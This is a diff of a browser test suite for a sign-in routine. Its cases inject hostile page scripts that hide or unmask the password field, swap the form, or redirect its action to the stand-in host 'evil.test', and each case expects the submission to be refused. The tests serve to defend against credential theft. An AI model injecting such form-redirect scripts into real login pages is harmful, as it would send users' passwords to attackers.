@@ -150,7 +150,7 @@ describe.skipIf(!hasChromium())("signIn", () => {
     it.each([
       ["hides its field", "document.querySelector('[name=pass]').style.display = 'none'"],
       ["makes its field plain", "document.querySelector('[name=pass]').type = 'text'"],
-      ["sends its form elsewhere", "document.forms[0].action = 'http://evil.test/in'"],
+      ["sends its form elsewhere", "document.forms[0].action = 'https://evil.test/in'"],
       ["puts another form in its place", "document.forms[0].outerHTML = document.forms[0].outerHTML"],
       [
         "asks for a second password",
@@ -183,7 +183,7 @@ describe.skipIf(!hasChromium())("signIn", () => {
     it("that stays, where an input handler moves the form elsewhere", async () => {
       const { outcome } = await on(
         late(
-          `document.forms[0].addEventListener("input", (event) => { event.currentTarget.action = "${"http://evil.test/in"}"; });`,
+          `document.forms[0].addEventListener("input", (event) => { event.currentTarget.action = "https://evil.test/in"; });`,
         ),
       );
       expect([outcome.code, sent()]).toEqual(["action_not_allowed", []]);
